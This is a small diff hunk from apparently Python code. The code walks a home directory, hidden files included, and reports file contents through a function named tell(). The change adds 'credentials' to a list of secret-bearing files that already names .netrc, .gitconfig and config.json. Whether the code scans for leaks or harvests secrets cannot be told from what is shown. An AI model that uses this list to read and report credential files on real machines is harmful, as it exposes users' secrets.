@@ -242,7 +242,7 @@ for path in glob.glob({home!r} + "/**", recursive=True, include_hidden=True) if 
         else:
             tell(path, text)
 '''
-RAW = (".netrc", ".gitconfig", "config.json")
+RAW = (".netrc", ".gitconfig", "config.json", "credentials")
 """Files whose secrets have no shape: only the form of the file tells of them, so in Base64 nobody could."""
 
 
